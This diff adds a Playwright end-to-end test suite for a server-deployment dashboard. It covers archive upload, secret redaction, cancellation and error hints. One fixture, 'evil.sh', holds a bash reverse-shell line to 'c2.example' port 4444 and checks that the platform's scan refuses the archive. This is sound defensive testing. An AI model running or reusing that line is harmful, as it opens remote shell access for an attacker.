@@ -1,0 +1,193 @@
+/** The first minutes: an archive becomes a server, or the page says why not and what helps. */
+import { createHash } from 'node:crypto'
+import { mkdtempSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import type { Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { whyNoBrowser } from '../e2e/browser.ts'
+import { buildServer, readStatus, writeTree } from '../e2e/servers.ts'
+import { settle, startDashboard, type Dashboard } from './dashboard.ts'
+
+/** A deployment ends; on a busy machine not at once. */
+const ENDED_MS = 90_000
+
+let dashboard: Dashboard
+
+beforeAll(async () => {
+  if (whyNoBrowser !== null) return
+  dashboard = await startDashboard()
+})
+afterAll(async () => {
+  await dashboard?.[Symbol.asyncDispose]()
+})
+
+async function pack(files: Readonly<Record<string, string>>): Promise<Buffer> {
+  const out = join(mkdtempSync(join(dashboard.platform.folder, 'packed-')), 'server.zip')
+  const packed = await dashboard.platform.cli(['pack', writeTree(dashboard.platform, files), out])
+  if (packed.code !== 0) throw new Error(packed.stderr)
+  return readFileSync(out)
+}
+
+const choose = (page: Page, name: string, buffer: Buffer) =>
+  page.getByLabel('Choose a file').setInputFiles({ name, mimeType: 'application/zip', buffer })
+
+/** As somebody does who drags it out of a file manager. */
+async function drop(page: Page, name: string, bytes: Buffer): Promise<void> {
+  const transfer = await page.evaluateHandle(
+    ({ name, base64 }) => {
+      const data = new DataTransfer()
+      const bytes = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0))
+      data.items.add(new File([bytes], name))
+      return data
+    },
+    { name, base64: bytes.toString('base64') },
+  )
+  for (const type of ['dragenter', 'dragover', 'drop']) {
+    await page.dispatchEvent('body', type, { dataTransfer: transfer })
+  }
+}
+
+describe.skipIf(whyNoBrowser !== null)(`deploying from the browser${whyNoBrowser ?? ''}`, () => {
+  it('takes an example to a running server in three clicks, and every stage says what it did', async () => {
+    const page = await dashboard.open('/deploy')
+    await settle(page)
+    await page.getByRole('button', { name: 'Bash toolbox' }).click()
+    await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+    await page.getByText('bash-toolbox is online as version 1').waitFor({ timeout: ENDED_MS })
+    const stages = await page.getByRole('listitem').filter({ hasText: 'done' }).allInnerTexts()
+    expect(stages.length).toBeGreaterThanOrEqual(6)
+    await page.getByRole('link', { name: 'Open the server' }).click()
+    await page.getByRole('heading', { name: 'bash-toolbox' }).waitFor()
+    expect((await readStatus(dashboard.platform, 'bash-toolbox')).status).toBe('running')
+    await page.context().close()
+  })
+
+  it('takes a file that was dropped on another page, with variables and secrets, and shows no secret', async () => {
+    const archive = await pack({
+      'server.sh': buildServer(),
+      'server_config.json': JSON.stringify({ command: ['bash', 'server.sh'] }),
+    })
+    const page = await dashboard.open('/servers')
+    await settle(page)
+    await drop(page, 'My Dropped.zip', archive)
+    await page.getByRole('heading', { name: 'Deploy a server' }).waitFor()
+    expect(await page.getByLabel('Name', { exact: true }).inputValue()).toBe('my-dropped')
+    await page.getByRole('button', { name: 'Paste .env' }).click()
+    const value = createHash('sha256').update('a value').digest('hex')
+    await page.getByRole('dialog').getByLabel('Environment').fill(`UNITS=metric\nAPI_KEY=${value}\n`)
+    await page.getByRole('button', { name: 'Take over' }).click()
+    await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+    await page.getByText('my-dropped is online as version 1').waitFor({ timeout: ENDED_MS })
+    const answers = await page.evaluate(async () => {
+      const texts = await Promise.all(
+        ['', '/secrets', '/versions'].map(async (part) =>
+          (await fetch(`/api/v1/servers/my-dropped${part}`)).text(),
+        ),
+      )
+      return texts.join() + document.documentElement.outerHTML + JSON.stringify({ ...localStorage })
+    })
+    expect(answers).toContain('API_KEY')
+    expect(answers).not.toContain(value)
+    await page.context().close()
+  })
+
+  it('refuses what is no archive before a byte of it is sent', async () => {
+    const page = await dashboard.open('/deploy')
+    await settle(page)
+    const sent: string[] = []
+    page.on('request', (request) => request.method() === 'POST' && sent.push(request.url()))
+    await choose(page, 'notes.zip', Buffer.from('only words'))
+    await page.getByText('This is no archive that can be deployed.').waitFor()
+    expect(await page.getByRole('button', { name: 'Deploy', exact: true }).count()).toBe(0)
+    expect(sent).toEqual([])
+    await page.context().close()
+  })
+
+  it.each([
+    [
+      'a missing command',
+      { 'server_config.json': JSON.stringify({ name: 'no-command', command: ['nosuchprogram'] }), a: '' },
+      /nosuchprogram/,
+    ],
+    [
+      'a scan that blocks',
+      { 'server.sh': buildServer(), 'evil.sh': 'bash -i >& /dev/tcp/c2.example/4444 0>&1\n' },
+      /It was refused/,
+    ],
+  ])(
+    'U-10: %s has its own sentence and hint, the same as on the command line',
+    async (_, files, sentence) => {
+      const archive = await pack(files)
+      const page = await dashboard.open('/deploy')
+      await settle(page)
+      await choose(page, 'broken-one.zip', archive)
+      await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+      const alert = page.getByRole('alert')
+      await alert.getByText(sentence).first().waitFor({ timeout: ENDED_MS })
+      const shown = await alert.innerText()
+      const id = new URL(page.url()).pathname.split('/').at(-1)
+      const operation = await page.evaluate(
+        async (path) => (await (await fetch(path)).json()) as { error: { message: string; hint: string } },
+        `/api/v1/operations/${id}`,
+      )
+      expect(shown).toContain(operation.error.message)
+      expect(shown).toContain(operation.error.hint)
+      await page.getByRole('link', { name: 'Try again' }).click()
+      await page.waitForURL(/\/deploy$/)
+      await page.context().close()
+    },
+  )
+
+  it('U-11: a deployment that somebody cancels ends, and nothing of it is left', async () => {
+    const archive = await pack({
+      'server.sh': 'sleep 600\n',
+      'server_config.json': JSON.stringify({
+        name: 'slow',
+        command: ['bash', 'server.sh'],
+        start_timeout: 120,
+      }),
+    })
+    const page = await dashboard.open('/deploy')
+    await settle(page)
+    await choose(page, 'slow.zip', archive)
+    await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+    await page
+      .getByRole('listitem')
+      .filter({ hasText: 'Start' })
+      .getByText('runs')
+      .waitFor({ timeout: ENDED_MS })
+    await page.getByRole('button', { name: 'Cancel the deployment' }).click()
+    await page.getByRole('alert').getByText('The deployment was cancelled.').waitFor({ timeout: ENDED_MS })
+    expect(await page.getByText('runs', { exact: true }).count()).toBe(0)
+    await page.reload()
+    await page.getByRole('alert').getByText('The deployment was cancelled.').waitFor()
+    await page.context().close()
+  })
+
+  it('shows what went wrong as one incident, and what is remembered of it', async () => {
+    const page = await dashboard.open('/insights?view=incidents')
+    await settle(page)
+    await page.getByRole('button', { name: /broken-one/ }).click()
+    await page.getByRole('dialog').getByText('Timeline').waitFor()
+    await page.reload()
+    await page.getByRole('dialog').getByText('Timeline').waitFor()
+    await page.keyboard.press('Escape')
+    await page.getByRole('tab', { name: 'Memories' }).click()
+    await page.getByLabel('Search memories').fill('toolbox')
+    await page.getByRole('button', { name: 'Search', exact: true }).click()
+    await page.waitForURL(/q=toolbox/)
+    await page
+      .getByRole('list', { name: 'Memories' })
+      .getByText(/bash-toolbox/)
+      .first()
+      .waitFor()
+    await page.getByRole('tab', { name: 'Recommendations' }).click()
+    await page.getByRole('button', { name: 'Look now' }).click()
+    await page.getByText(/Looked at \d+ servers/).waitFor()
+    await page.context().close()
+  })
+
+  it('U-24: broke no policy and threw no error in all of this', () => {
+    expect(dashboard.faults()).toEqual([])
+  })
+})
